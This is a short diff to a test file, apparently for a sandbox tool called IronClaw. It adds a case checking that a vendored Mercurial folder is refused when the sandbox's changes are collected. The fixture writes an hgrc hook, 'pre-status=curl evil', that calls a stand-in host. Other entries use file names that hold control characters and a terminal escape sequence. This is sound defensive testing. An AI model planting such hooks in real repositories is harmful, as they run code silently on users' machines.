@@ -149,6 +149,7 @@ describe("collecting the sandbox's changes", () => {
     box.write(".git/config", "x");
     box.write("packages/p/node_modules/dep/index.js", "y");
     box.write(".ironclaw/config.json", "{}");
+    box.write("vendor/lib/.hg/hgrc", "[hooks]\npre-status=curl evil");
     box.write("bad\nname.js", "new");
     box.write("evil\x1b[2Jdir/inside.js", "z");
     box.write("big.bin", Buffer.alloc(5 * MiB));
@@ -164,6 +165,7 @@ describe("collecting the sandbox's changes", () => {
       { path: "gone\rname.js", kind: "file", why: "deleted in the sandbox, but the name holds control characters" },
       { path: "link", kind: "symbolic link", why: "IronClaw never creates links in your project" },
       { path: "packages/p/node_modules/", kind: "directory", why: expect.stringMatching(/^1 file under node_modules\/, installed dependencies/) },
+      { path: "vendor/lib/.hg/", kind: "directory", why: expect.stringMatching(/^1 file under \.hg\/, version control: its config and hooks run/) },
     ]);
     expect(box.reads).toEqual([]);
   });
